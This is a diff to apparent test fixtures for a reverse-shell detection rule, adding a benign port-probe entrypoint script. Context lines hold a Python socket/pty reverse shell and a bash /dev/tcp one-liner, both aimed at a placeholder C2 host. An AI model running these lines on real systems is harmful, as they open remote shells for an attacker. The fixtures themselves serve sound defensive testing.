@@ -290,6 +290,11 @@ SOCKET_DUP2_COMPREHENSION = (
     f'import os,pty,socket;s=socket.socket();s.connect(("{C2_HOST}",1338));'
     '[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn("sh")\n'
 )
+# A container entrypoint waiting for a local port to open.
+PORT_PROBE = (
+    "#!/bin/sh\n"
+    "timeout 30 bash -c 'until echo > /dev/tcp/localhost/8080 2>/dev/null; do sleep 0.5; done'\n"
+)
 # A subprocess module of its own: the child's pipes put in place of 0, 1 and 2.
 SUBPROCESS_IMPL = """\
 import os
@@ -600,6 +605,7 @@ FIXTURES_PATTERNS: dict[str, RuleFixtures] = {
         benign=[
             python(DAEMONIZE),
             python(SUBPROCESS_IMPL),
+            other(PORT_PROBE, "examples/proxy/entrypoint.sh"),
             other(f"bash -i >& /dev/tcp/{C2_HOST}/4444 0>&1\n", "docs/cheatsheet.txt"),
         ],
     ),
